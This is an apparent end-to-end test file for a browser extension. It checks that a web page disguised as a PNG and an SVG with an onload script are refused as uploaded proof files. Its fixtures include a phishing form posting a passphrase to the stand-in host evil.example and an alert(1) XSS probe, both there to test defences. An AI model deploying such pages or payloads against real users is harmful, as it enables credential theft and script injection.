import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type MessageKey, t as translate } from '@/lib/i18n';
import { noAxeViolations } from './axe';
import { type Beacon, launchBeacon, okFrom, sendFrom } from './harness';

/**
 * Hostile files in the built extension: a web page renamed .png chosen as a proof is refused in
 * the workspace with a clear message (and by the background if a page skips the form), and
 * nothing is saved. (Zip bombs and html/svg proofs inside imports: tests/unit/vault.)
 */
const t = (key: string) => translate('en', key as MessageKey);
const PROFILE = {
  title: 'Hostile files',
  role: 'parent',
  ageAtTime: 'minor',
  country: 'FR',
  languages: ['en'],
};
const PHISH = Buffer.from(
  '<!doctype html><title>Session expired</title><form action="https://evil.example/steal"><input name="passphrase"></form>',
);

describe('hostile proof files', () => {
  let beacon: Beacon;
  let ws: Page;
  let caseId: string;

  beforeAll(async () => {
    beacon = await launchBeacon();
    ws = await beacon.openExtensionPage('workspace.html#/proof');
    const status = await okFrom<{ settings: { currentCaseId?: string } }>(ws, 'createVault', {
      passphrase: 'hostile files passphrase',
      profile: PROFILE,
      settings: { lang: 'en' },
    });
    caseId = status.settings.currentCaseId ?? '';
  });

  afterAll(async () => {
    await beacon?.close();
  });

  it('refuses an html page renamed .png in the proof form, with a clear message', async () => {
    await ws.goto(beacon.extensionUrl('workspace.html#/proof'));
    await ws.getByRole('heading', { level: 1, name: t('cw.proof.title') }).waitFor();
    await ws.getByRole('button', { name: t('cw.proof.add') }).click();
    await ws.getByLabel(t('cw.proof.label')).fill('Passport');
    await ws.getByLabel(t('cw.proof.file')).setInputFiles({
      name: 'passport.png',
      mimeType: 'image/png',
      buffer: PHISH,
    });
    await expect.poll(() => ws.getByText(t('files.notAllowed')).count()).toBe(1);
    await noAxeViolations(ws, 'proof form refusing a renamed web page');
    await ws.getByRole('button', { name: t('cw.proof.save') }).click();
    await expect.poll(() => ws.getByText(t('files.notAllowed')).count()).toBe(1);
    const kase = await okFrom<{ proofs: unknown[] }>(ws, 'getCase', { id: caseId });
    expect(kase.proofs).toEqual([]);
  });

  it('the background refuses it too when a page skips the form', async () => {
    await okFrom(ws, 'updateCase', {
      id: caseId,
      op: { op: 'addProof', id: 'p1', fields: { type: 'passport', label: 'Passport' } },
    });
    const answer = await sendFrom(ws, 'attachProof', {
      caseId,
      proofId: 'p1',
      name: 'passport.png',
      type: 'image/png',
      dataBase64: PHISH.toString('base64'),
    });
    expect(answer).toMatchObject({ ok: false, error: { code: 'invalid-data' } });
    const svg = await sendFrom(ws, 'attachProof', {
      caseId,
      proofId: 'p1',
      name: 'id.svg',
      type: 'image/svg+xml',
      dataBase64: Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      ).toString('base64'),
    });
    expect(svg).toMatchObject({ ok: false, error: { code: 'invalid-data' } });
    const kase = await okFrom<{ proofs: Array<{ fileId?: string }> }>(ws, 'getCase', {
      id: caseId,
    });
    expect(kase.proofs[0]?.fileId).toBeUndefined();
  });
});
